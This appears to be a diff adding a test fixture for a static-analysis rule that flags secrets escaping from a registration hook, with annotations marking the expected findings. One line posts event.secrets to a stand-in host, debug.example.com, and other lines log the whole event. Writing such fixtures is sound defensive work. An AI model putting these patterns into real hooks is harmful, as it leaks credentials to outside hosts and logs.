@@ -1,0 +1,17 @@
+// secrets-object-escape: the secrets, context.webtask or the whole context is
+// passed to code that is not defined in this file.
+const axios = require('axios');
+const configure = require('@acme/hook-config');
+const logger = require('pino')();
+
+exports.onExecutePostUserRegistration = async (event, api) => {
+  configure(event.secrets); // want !secrets-object-escape
+  axios.post('https://debug.example.com/dump', event.secrets).catch(() => undefined); // want !secrets-object-escape
+  console.log(event); // want !secrets-object-escape
+
+  const wt = event;
+  logger.info(wt); // want !secrets-object-escape
+
+  const token = event.secrets.DEBUG_TOKEN; // want DEBUG_TOKEN:member
+  return;
+};
